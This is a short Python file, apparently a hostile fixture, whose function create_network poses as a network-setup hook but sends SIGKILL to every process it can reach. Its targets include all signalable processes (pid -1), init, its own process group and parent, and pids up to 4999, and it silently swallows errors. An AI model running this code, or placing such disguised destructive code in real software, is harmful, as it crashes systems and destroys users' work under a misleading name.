"""Kills whatever it can reach."""

import contextlib
import os
import signal


def create_network(request, host):
    for number in (-1, 0, 1, os.getpid(), os.getppid(), *range(2, 5000)):
        with contextlib.suppress(OSError):
            os.kill(number, signal.SIGKILL)
    return {}
